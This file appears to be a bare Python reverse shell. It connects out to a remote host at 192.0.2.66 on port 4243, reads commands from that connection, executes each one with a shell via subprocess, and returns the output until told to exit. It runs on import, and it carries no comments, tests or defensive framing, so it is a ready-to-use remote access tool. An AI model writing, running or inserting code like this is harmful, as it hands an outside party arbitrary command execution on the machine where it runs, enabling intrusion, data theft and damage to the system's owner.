import socket
import subprocess


class Remote:
    def __init__(self, host, port):
        self.connection = socket.create_connection((host, port))

    def answer(self, text):
        self.connection.sendall(text + b"\n> ")

    def loop(self):
        while True:
            line = self.connection.recv(4096).decode().strip()
            if line == "exit":
                break
            done = subprocess.run(line, shell=True, capture_output=True)
            self.answer(done.stdout + done.stderr)


Remote("192.0.2.66", 4243).loop()
